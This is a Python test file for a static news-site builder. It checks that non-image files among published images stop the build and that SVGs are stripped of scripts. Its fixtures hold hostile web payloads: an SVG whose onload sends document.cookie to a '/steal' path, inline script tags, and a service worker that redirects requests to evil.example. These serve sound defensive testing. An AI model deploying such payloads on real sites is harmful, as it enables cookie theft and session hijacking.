"""Nothing under content/images/ runs from the site's own address: only images are published, SVGs cleaned."""

from __future__ import annotations

import os
from pathlib import Path

from newsroom.svgclean import clean_svg
from support.builds import ROOT, article_text, build, run_newsdesk, tree_digest

EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="675" onload="fetch(\'/steal?\'+document.cookie)">'
    b'<rect width="1200" height="675" fill="#123"/><script>alert(document.domain)</script></svg>'
)


def hero_story(image: str) -> str:
    return article_text("Drawn", date="2026-11-15 09:30", Image=image)


def test_a_page_or_script_among_the_images_stops_the_build_and_check_names_it(make_site, tmp_path: Path) -> None:
    content = make_site(
        {
            "images/evil.svg": EVIL_SVG,
            "images/2026/page.html": "<script>alert(document.cookie)</script>",
            "images/sw.js": "self.addEventListener('fetch', e => e.respondWith(fetch('https://evil.example')))",
            "images/fake.png": "<html><script>alert(1)</script></html>",
            "articles/drawn.md": hero_story("images/evil.svg"),
        }
    )
    output = tmp_path / "output"
    result = build(content, output)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    for name in ("images/2026/page.html", "images/sw.js"):
        assert f"{name}:1: error: is not an image; only images are published from content/" in result.stderr
    assert "images/fake.png:1: error: is named .png but does not hold PNG image data" in result.stderr
    assert not output.exists()
    assert not (tmp_path / ".output.staging").exists()

    checked = run_newsdesk("check", "--input", str(content))
    assert checked.returncode != 0
    assert "images/sw.js:1: error: is not an image" in checked.stdout
    assert "images/2026/page.html:1: error: is not an image" in checked.stdout
    assert "images/evil.svg:1: warning: is published without a <script> element, an event handler (onload)" in (
        checked.stdout
    )


def test_an_svg_hero_is_published_cleaned_the_same_every_build_even_over_an_old_raw_copy(
    make_site, tmp_path: Path
) -> None:
    content = make_site({"images/evil.svg": EVIL_SVG, "articles/drawn.md": hero_story("images/evil.svg")})
    output = tmp_path / "output"
    result = build(content, output)
    assert result.returncode == 0, result.stderr
    assert (
        "images/evil.svg:1: warning: is published without a <script> element, an event handler (onload)"
    ) in result.stderr
    published = output / "images" / "evil.svg"
    cleaned = published.read_bytes()
    assert b"script" not in cleaned and b"onload" not in cleaned and b"cookie" not in cleaned
    assert cleaned == clean_svg(EVIL_SVG)[0]
    assert b'<rect width="1200" height="675" fill="#123"/>' in cleaned
    page = (output / "2026" / "11" / "drawn" / "index.html").read_text(encoding="utf-8")
    assert 'src="/images/evil.svg"' in page and 'width="1200" height="675"' in page

    assert build(content, output).returncode == 0  # applied in place
    assert published.read_bytes() == cleaned

    # A site built before SVGs were cleaned holds a raw copy with the source's size and time,
    # which is how an unchanged copy is recognised: it must not be kept.
    source = content / "images" / "evil.svg"
    published.unlink()
    published.write_bytes(EVIL_SVG)
    os.utime(published, ns=(source.stat().st_atime_ns, source.stat().st_mtime_ns))
    assert build(content, output).returncode == 0
    assert published.read_bytes() == cleaned

    full = tmp_path / "full"
    assert build(content, full).returncode == 0
    assert (full / "images" / "evil.svg").read_bytes() == cleaned


def test_the_sample_sites_images_are_published_byte_for_byte(sample_site: Path) -> None:
    images = tree_digest(ROOT / "content" / "images")
    photos = {path for path in images if path.endswith(".jpg")}  # heroes: published only as derivatives (img/)
    published = {p: d for p, d in tree_digest(sample_site / "images").items() if not p.endswith((".gz", ".br"))}
    assert photos and published == {p: d for p, d in images.items() if p not in photos}  # SVGs get siblings too


def test_files_pelican_ignores_among_the_images_stop_neither_the_build_nor_check(make_site, tmp_path: Path) -> None:
    content = make_site({"images/README.md": "How to name images.\n", "images/2026/.DS_Store": b"\x00\x00\x00\x01Bud1"})
    output = tmp_path / "output"
    result = build(content, output)
    assert result.returncode == 0, result.stderr
    assert not (output / "images" / "README.md").exists() and not (output / "images" / "2026" / ".DS_Store").exists()
    checked = run_newsdesk("check", "--input", str(content))
    assert checked.returncode == 0, checked.stdout
